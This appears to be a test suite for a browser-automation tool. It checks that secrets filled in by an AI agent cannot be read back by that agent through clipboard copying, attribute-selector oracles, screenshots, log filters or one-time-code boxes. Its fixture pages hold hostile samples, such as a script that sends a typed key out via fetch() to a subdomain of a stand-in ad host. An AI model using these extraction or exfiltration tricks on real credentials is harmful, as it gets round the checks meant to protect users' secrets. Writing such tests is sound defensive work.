// The attacks of round 3 (issue 26) on a secret, made with the agent's token only, now that a bound
// write empties its fields before it answers (spec §1.17, issue 41): each channel is open to the agent
// and finds nothing of the value, beside a control showing the same channel carries ordinary text.
// The attacks: the clipboard into another host's frame, a CSS selector oracle on a mirrored value
// attribute, a screenshot of a transformed frame, a careless page's console and requests, a six-box
// one-time code. The ordinary use: a password holding a common word and a year mangles no URL, host
// name or title; a page where the agent wrote plain text is an ordinary page; what a person types in
// Take over is theirs to show.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHmac } from "node:crypto";
import { type Fixture, html, serveFixture } from "../support/fixtures.ts";
import { decode } from "../support/png.ts";
import { endAll, logLines, startServer, type TestServer } from "../support/server.ts";

const W = "secrets-contained";
const PASSWORD = "hunter2-Example!";
const API_KEY = "AKLIA7Q2Z9XW4PLM0RTS";
const CODE_SEED = "JBSWY3DPEHPK3PXP";
const received: string[] = [];
const bodies: string[] = [];
let server: TestServer;
let site: Fixture;

async function call(path: string, body: unknown = {}, workspace = W) {
  const res = await server.call("POST", path, body, workspace);
  bodies.push(JSON.stringify(res.body));
  return res;
}

/** The RFC 6238 code of a base32 seed now (SHA-1, 6 digits, 30 s), with node:crypto. */
function totp(seed: string): string {
  const A = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = "";
  for (const c of seed) bits += A.indexOf(c).toString(2).padStart(5, "0");
  const key = Buffer.from(
    Array.from({ length: bits.length >> 3 }, (_, i) => Number.parseInt(bits.slice(i * 8, i * 8 + 8), 2)),
  );
  const msg = Buffer.alloc(8);
  msg.writeBigUInt64BE(BigInt(Math.floor(Date.now() / 30_000)));
  const mac = createHmac("sha1", key).update(msg).digest();
  const o = mac[mac.length - 1]! & 15;
  return String((mac.readUInt32BE(o) & 0x7fffffff) % 1_000_000).padStart(6, "0");
}

/** Every 4-character run of value, any case. */
const runs = (value: string) => [...value].slice(0, -3).map((_, i) => value.slice(i, i + 4).toLowerCase());
const leaks = (text: string, value: string) => runs(value).filter((r) => text.toLowerCase().includes(r));

// A key field whose value React-style code mirrors into its value attribute; a "Show" button turns the
// password to text; an ad frame of another host with a textarea that echoes btoa of what is pasted.
const BANK = (port: number) => `<title>Bank</title>
<label>Password <input id=pw type=password></label><button id=show type=button onclick="pw.type='text'">Show</button>
<label>API key <input id=key name=key></label>
<button id=go type=button>Sign in</button>
<script>key.addEventListener("input", () => key.setAttribute("value", key.value));</script>
<iframe id=ad src="http://ads.example.test:${port}/paste" width=400 height=120></iframe>`;
const PASTE = `<textarea id=t></textarea><p id=out></p><script>
t.addEventListener("input", () => { out.textContent = btoa(t.value); fetch("/got?v=" + encodeURIComponent(t.value)); });
</script>`;

beforeAll(async () => {
  site = serveFixture({
    "/bank": (req) => html(BANK(Number(new URL(req.url).port))),
    "/paste": () => html(PASTE),
    "/got": (req) => {
      received.push(new URL(req.url).searchParams.get("v") ?? "");
      return new Response("ok");
    },
    // Carelessly logs and sends the value on every input: spread, upper-cased, in a lower-cased
    // subdomain, split into path segments, reversed.
    "/careless": () =>
      html(`<title>Careless</title><label>API key <input id=key></label><script>
key.addEventListener("input", () => { const v = key.value;
  console.log(...v); console.log(v.split("").reverse().join(""));
  fetch("/q?k=" + v.toUpperCase()).catch(() => {});
  fetch("/" + v.split("").join("/")).catch(() => {});
  fetch("http://" + v.toLowerCase() + ".ads.example.test:" + location.port + "/").catch(() => {});
});</script>`),
    "/q": () => new Response("ok"),
    // A one-time code spread over six boxes by the page, each holding one digit.
    "/otp": () =>
      html(`<title>Code</title><label>Code <input id=all></label>${[0, 1, 2, 3, 4, 5]
        .map((i) => `<input class=box id=b${i} maxlength=1>`)
        .join("")}<script>all.addEventListener("input", () => { [...all.value].forEach((d, i) => {
  const b = document.getElementById("b" + i); if (b) b.value = d; }); });</script>`),
    // The bank's sign-in framed by another host under a transform.
    "/framed": (req) =>
      html(`<title>Framed</title><style>body{margin:0;background:#fff}</style>
<iframe id=f src="http://bank.example.test:${new URL(req.url).port}/plain" style="border:0;width:400px;height:100px;transform:translate(0,220px) scale(2,2);transform-origin:0 0"></iframe>`),
    "/plain": () =>
      html(
        `<style>body{margin:0;background:#fff}input{border:0;outline:0;font:40px monospace;color:#000;background:#fff;width:390px;caret-color:transparent}</style><input id=key>`,
      ),
    // A sign-in page whose later page takes plain text only.
    "/profile": () => html(`<title>Profile</title><label>Nickname <input id=nick></label>`),
    "/news": () =>
      html(
        `<title>News</title><p>Example Domain news for 2024: hunter2 is back.</p><label>Search <input id=q></label><a href="/profile">profile</a><iframe src="javascript:void(0)"></iframe>`,
        {
          "content-security-policy": "script-src 'none'",
        },
      ),
  });
  server = await startServer({
    configure: (c) => {
      c.secrets.hold_ms = 300;
      c.timeline.keep = 100;
      c.secrets.entries = {
        bank: {
          description: "the bank's sign-in",
          allowed_urls: ["app.example.test", "bank.example.test"],
          keys: { password: { value: PASSWORD }, key: { value: API_KEY }, code: { totp: CODE_SEED } },
        },
      };
    },
  });
});

afterAll(async () => {
  await endAll(server, [W, `${W}-person`]);
  await server.close();
  site.stop();
  // Nothing any answer, log line or the other host's server got holds the value, in any case.
  const everything = [...bodies, ...logLines].join("\n");
  for (const v of [PASSWORD, API_KEY]) {
    expect(everything.toLowerCase()).not.toContain(v.toLowerCase());
    expect(everything).not.toContain(btoa(v));
  }
  expect(received.join("\n")).not.toContain(PASSWORD);
  expect(received.join("\n")).not.toContain(API_KEY);
});

describe("ordinary use with a password holding a word and a year", () => {
  test("no URL, host name, title or log entry is mangled after it was typed", async () => {
    expect((await call("/browser/navigate", { url: site.url("/bank") })).status).toBe(200);
    const w = await call("/browser/write", {
      selector: { css: "#pw" },
      secret: { name: "bank", key: "password" },
      submit: "auto",
    });
    expect(w.status).toBe(200);
    expect(w.body.url).toBe(site.url("/bank"));
    const nav = await call("/browser/navigate", { url: site.url("/news", "shop.example.test") });
    expect(nav.status).toBe(200);
    expect(nav.body.url).toBe(site.url("/news", "shop.example.test"));
    expect(nav.body.title).toBe("News");
    const text = await call("/browser/extract", { selector: { css: "p" } });
    expect(text.body.result).toBe("Example Domain news for 2024: hunter2 is back.");
    const logs = await call("/browser/logs", { kind: "network" });
    expect(
      logs.body.entries.some((e: { url: string }) => e.url === site.url("/news", "shop.example.test")),
    ).toBe(true);
    expect(JSON.stringify(logs.body)).not.toContain("[hidden]");
    // A refusal names the host as it is.
    const refused = await call("/browser/write", {
      selector: { css: "#q" },
      secret: { name: "bank", key: "password" },
      submit: "auto",
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error).toContain("shop.example.test");
    const entries = (await server.call("GET", `/admin/workspaces/${W}/timeline`, undefined, null)).body
      .entries;
    expect(JSON.stringify(entries)).toContain(site.url("/news", "shop.example.test"));
    expect(JSON.stringify(entries)).not.toContain("e[hidden]");
  });

  test("a script on a CSP page with a javascript: frame runs: where nothing was typed, and where a value was typed on another site", async () => {
    const fresh = `${W}-fresh`;
    await call("/browser/navigate", { url: site.url("/news") }, fresh);
    const s = await call("/browser/script", { script: "document.title" }, fresh);
    expect(s.status).toBe(200);
    expect(s.body.result).toBe("News");
    await endAll(server, [fresh]);
    // W typed on app.example.test; this page is shop.example.test's, its silent frame inherits that.
    const there = await call("/browser/script", { script: "document.title" });
    expect(there.status).toBe(200);
    expect(there.body.result).toBe("News");
  });

  test("a later page of the typed origin where the agent wrote plain text is an ordinary page", async () => {
    await call("/browser/navigate", { url: site.url("/profile") });
    expect(
      (await call("/browser/write", { selector: { css: "#nick" }, text: "Ada 2024 Example" })).status,
    ).toBe(200);
    expect((await call("/browser/extract", { selector: { css: "#nick" }, get: "value" })).body.result).toBe(
      "Ada 2024 Example",
    );
    expect((await call("/browser/script", { script: "document.title" })).body.result).toBe("Profile");
    const press = await call("/browser/interact/press", {
      selector: { css: "#nick" },
      keys: "Control+a Control+c",
    });
    expect(press.status).toBe(200);
    // A text the agent wrote that happens to hold a whole catalogue value is its own: never masked.
    await call("/browser/write", { selector: { css: "#nick" }, text: `my ${PASSWORD} note` });
    expect((await call("/browser/extract", { selector: { css: "#nick" }, get: "value" })).body.result).toBe(
      `my ${PASSWORD} note`,
    );
    bodies.pop();
    const shot = await call("/browser/screenshot");
    expect(shot.status).toBe(200);
  });
});

const bound = (selector: string, key = "key") =>
  call("/browser/write", { selector: { css: selector }, secret: { name: "bank", key }, submit: "auto" });

describe("the clipboard", () => {
  test("after the write, select-all and copy in the field and a paste in another host's frame carry nothing of it; the same keys carry plain text", async () => {
    await call("/browser/navigate", { url: site.url("/bank", "bank.example.test") });
    /** Ctrl+A Ctrl+C in `sel` (or wherever the focus is), then a paste into the ad frame's empty textarea: what arrived there. */
    const copyPaste = async (sel: string | null, keys = "Control+a Control+c") => {
      const press = await call("/browser/interact/press", sel ? { selector: { css: sel }, keys } : { keys });
      expect(press.status).toBe(200);
      expect((await call("/browser/switch", { frame: { css: "#ad" } })).status).toBe(200);
      await call("/browser/write", { selector: { css: "#t" }, text: "" });
      await call("/browser/interact/click", { selector: { css: "#t" } });
      expect(
        (await call("/browser/interact/press", { selector: { css: "#t" }, keys: "Control+v" })).status,
      ).toBe(200);
      const got = (await call("/browser/extract", { selector: { css: "#t" }, get: "value" })).body.result;
      await call("/browser/switch", { frame: null });
      return got as string;
    };
    // The control: plain text copied the same way arrives whole.
    await call("/browser/write", { selector: { css: "#key" }, text: "plain-copy-2024" });
    expect(await copyPaste("#key")).toBe("plain-copy-2024");
    // The secret: the field is empty once the write answered, so a copy of it takes nothing (what is
    // pasted is what the clipboard held before) and nothing of the value arrives.
    const nothing = (pasted: string) => {
      expect(leaks(pasted, API_KEY)).toEqual([]);
      expect(leaks(pasted, PASSWORD)).toEqual([]);
    };
    expect((await bound("#key")).status).toBe(200);
    expect((await call("/browser/extract", { selector: { css: "#key" }, get: "value" })).body.result).toBe(
      "",
    );
    nothing(await copyPaste("#key"));
    // Without a selector: the focus is where the write left it.
    await call("/browser/interact/click", { selector: { css: "#key" } });
    nothing(await copyPaste(null, "Control+c"));
    // The password shown as text by the page's own button: the same.
    expect((await bound("#pw", "password")).status).toBe(200);
    await call("/browser/interact/click", { selector: { css: "#show" } });
    expect((await call("/browser/extract", { selector: { css: "#pw" }, get: "value" })).body.result).toBe("");
    nothing(await copyPaste("#pw"));
    nothing(await copyPaste("#pw", "Shift+Home Control+x"));
    const out = await call("/browser/extract", { selector: { css: "#out" } });
    expect(out.body.result ?? "").not.toContain(btoa(API_KEY).slice(0, 8));
    // Submitting is still a press: Enter and Tab go.
    expect((await call("/browser/interact/press", { selector: { css: "#key" }, keys: "Tab" })).status).toBe(
      200,
    );
  });
});

describe("the selector oracle", () => {
  test("a selector on a mirrored value attribute matches nothing of the value after the write, right guess or wrong; it matches plain text", async () => {
    await call("/browser/navigate", { url: site.url("/bank", "bank.example.test") });
    // The control: plain text mirrored into the attribute is found by the same kind of selector.
    await call("/browser/write", { selector: { css: "#key" }, text: "ZZ-plain" });
    const plain = await call("/browser/extract", { selector: { css: `:is(#key[value^="ZZ"])` }, timeout: 0 });
    expect(plain.status).toBe(200);
    expect(plain.body.count).toBe(1);
    expect((await bound("#key")).status).toBe(200);
    const right = await call("/browser/extract", {
      selector: { css: `:is(#key[value^="${API_KEY.slice(0, 2)}"])` },
      timeout: 0,
    });
    const wrong = await call("/browser/extract", { selector: { css: `:is(#key[value^="ZZ"])` }, timeout: 0 });
    expect(right.status).toBe(400);
    expect(wrong.status).toBe(400);
    expect(right.body.error).toBe(wrong.body.error.replace("ZZ", API_KEY.slice(0, 2)));
    for (const sel of [
      `#key:has(~ [value*="A"])`,
      `//input[starts-with(@value,"A")]`,
      `[value="${API_KEY}"]`,
    ]) {
      const q = sel.startsWith("//") ? { xpath: sel } : { css: sel };
      expect((await call("/browser/extract", { selector: q, timeout: 0 })).status).toBe(400);
    }
    const text = await call("/browser/extract", {
      selector: { text: API_KEY.slice(0, 6), exact: false },
      timeout: 0,
    });
    expect(text.status).toBe(400);
    // Ordinary selectors on the same page work, and read the field as it is: empty.
    expect((await call("/browser/extract", { selector: { css: "#key" }, get: "value" })).body.result).toBe(
      "",
    );
    expect(
      (
        await call("/browser/extract", {
          selector: { css: "input[name=key]" },
          get: "attribute",
          attribute: "value",
        })
      ).body.result,
    ).toBe("");
    expect(
      (await call("/browser/extract", { selector: { role: "button", name: "Sign in" } })).body.result,
    ).toBe("Sign in");
    expect((await call("/browser/extract", { selector: { text: "Sign in" } })).body.result).toBe("Sign in");
    expect(
      (await call("/browser/extract", { selector: { label: "API key" }, get: "value" })).body.result,
    ).toBe("");
    const read = await call("/browser/read");
    expect(leaks(JSON.stringify(read.body), API_KEY)).toEqual([]);
  });
});

describe("pictures", () => {
  test("a screenshot of a transformed frame after a write of a key shows no ink at all; plain text there shows", async () => {
    await call("/browser/navigate", { url: site.url("/framed", "evil.example.test") });
    await call("/browser/switch", { frame: { css: "#f" } });
    // The opposite first: plain text in the same frame shows.
    await call("/browser/write", { selector: { css: "#key" }, text: "visible text" });
    const before = await call("/browser/screenshot");
    expect(await inked(before)).toBeGreaterThan(100);
    expect((await bound("#key")).status).toBe(200);
    await call("/browser/switch", { frame: null });
    const after = await call("/browser/screenshot");
    expect(after.status).toBe(200);
    expect(await inked(after)).toBe(0);
  });
});

/** How many pixels of a filed screenshot are not white. */
async function inked(shot: { body: { file: { url: string } } }): Promise<number> {
  const png = Buffer.from(await (await fetch(`${server.url}${shot.body.file.url}`)).arrayBuffer());
  const pic = decode(png);
  if (!pic) throw new Error("not a PNG this test reads");
  let n = 0;
  for (let i = 0; i < pic.width * pic.height; i++) {
    const p = i * pic.bpp;
    if (!(pic.rows[p] === 255 && pic.rows[p + 1] === 255 && pic.rows[p + 2] === 255)) n++;
  }
  return n;
}

describe("a careless page", () => {
  test("what it logs and requests while the write runs is withheld from logs; after it, it logs nothing of the value", async () => {
    await call("/browser/navigate", { url: site.url("/careless") });
    const cursor = (await call("/browser/logs")).body.next_cursor;
    // The control: plain text typed there is logged and requested as the page does it.
    await call("/browser/write", { selector: { css: "#key" }, text: "plainly" });
    await Bun.sleep(300);
    const shown = await call("/browser/logs", { cursor, tab: "all" });
    expect(JSON.stringify(shown.body)).toContain("ylnialp");
    expect(shown.body.note).toBeUndefined();
    const from = shown.body.next_cursor;
    expect((await bound("#key")).status).toBe(200);
    await Bun.sleep(500);
    const logs = await call("/browser/logs", { cursor: from, tab: "all" });
    expect(logs.status).toBe(200);
    expect(logs.body.entries.length).toBeGreaterThan(0);
    const text = JSON.stringify(logs.body).replace(/\s+/g, "");
    expect(leaks(text, API_KEY)).toEqual([]);
    expect(text.toLowerCase()).not.toContain([...API_KEY].reverse().join("").slice(0, 6).toLowerCase());
    expect(text).toContain("[withheld]");
    expect(logs.body.note).toContain("withheld");
    // Filtering is no oracle: a right guess at the value matches no more than a wrong one.
    const guess = async (g: string) =>
      (await call("/browser/logs", { cursor: from, tab: "all", kind: "network", url_contains: g })).body
        .entries.length;
    expect(await guess(API_KEY.slice(0, 6).toUpperCase())).toBe(0);
    expect(await guess(API_KEY.slice(0, 6).toLowerCase())).toBe(0);
    expect(await guess(`${API_KEY[0]}/${API_KEY[1]}/${API_KEY[2]}`)).toBe(0);
    expect(await guess("ZZZZZZ")).toBe(0);
    // What the page does after the write is shown again, and it has nothing of the value to show.
    const after = (await call("/browser/logs", { tab: "all" })).body.next_cursor;
    await call("/browser/write", { selector: { css: "#key" }, text: "later" });
    await Bun.sleep(300);
    const later = await call("/browser/logs", { cursor: after, tab: "all" });
    expect(JSON.stringify(later.body)).toContain("retal");
    expect(later.body.note).toBeUndefined();
    await call("/browser/navigate", { url: site.url("/news") });
    const news = await call("/browser/logs", { kind: "network" });
    expect(news.body.entries.at(-1).url).toBe(site.url("/news"));
  });

  test("a six-box one-time code: every box the page filled from it is empty after the write", async () => {
    await call("/browser/navigate", { url: site.url("/otp") });
    // The control: plain digits spread by the page stay in the boxes.
    await call("/browser/write", { selector: { css: "#all" }, text: "123456" });
    const spread = await call("/browser/extract", { selector: { css: ".box" }, all: true, get: "value" });
    expect(spread.body.results).toEqual(["1", "2", "3", "4", "5", "6"]);
    await call("/browser/navigate", { reload: true });
    expect((await bound("#all", "code")).status).toBe(200);
    await Bun.sleep(300);
    const boxes = await call("/browser/extract", { selector: { css: ".box" }, all: true, get: "value" });
    expect(boxes.body.results).toEqual(Array(6).fill(""));
    expect((await call("/browser/extract", { selector: { css: "#all" }, get: "value" })).body.result).toBe(
      "",
    );
    const read = JSON.stringify((await call("/browser/read")).body);
    expect(read).not.toMatch(/"value":"\d"/);
  });

  test("every box the page filled goes back to what it held before: what stays tells nothing of the code", async () => {
    await call("/browser/navigate", { url: site.url("/otp") });
    // Clear of the code's 30 s step, so the code typed is the one computed here.
    while (Date.now() % 30_000 > 25_000) await Bun.sleep(500);
    const code = totp(CODE_SEED);
    // The first box holds the code's own first digit, every other one a digit the code does not put there.
    const guess = [...code].map((d, i) => (i === 0 ? d : String((Number(d) + 1) % 10))).join("");
    await call("/browser/write", { selector: { css: "#all" }, text: guess });
    expect((await bound("#all", "code")).status).toBe(200);
    const boxes = await call("/browser/extract", { selector: { css: ".box" }, all: true, get: "value" });
    // Were the first box left as it was while the others are emptied, it would say the guess was right:
    // each goes back to the agent's own digit, right or wrong.
    expect(boxes.body.results).toEqual([...guess]);
  });
});

describe("a person's typing during Take over", () => {
  test("is the person's own: the agent reads it as it is (nothing is masked or marked); the timeline keeps its length only", async () => {
    const P = `${W}-person`;
    await call("/browser/navigate", { url: site.url("/careless") }, P);
    await call("/browser/interact/click", { selector: { css: "#key" } }, P);
    const typed = "alice.person-2024";
    const input = await server.call("POST", `/admin/workspaces/${P}/input`, { text: typed }, null);
    expect(input.status).toBe(200);
    await Bun.sleep(300);
    const value = await server.call(
      "POST",
      "/browser/extract",
      { selector: { css: "#key" }, get: "value" },
      P,
    );
    expect(value.body.result).toBe(typed);
    const script = await server.call("POST", "/browser/script", { script: "key.value" }, P);
    expect(script.body.result).toBe(typed);
    const entries = (await server.call("GET", `/admin/workspaces/${P}/timeline`, undefined, null)).body
      .entries;
    expect(JSON.stringify(entries)).not.toContain(typed);
    expect(JSON.stringify(entries)).toContain(`typed ${typed.length} characters`);
  });
});
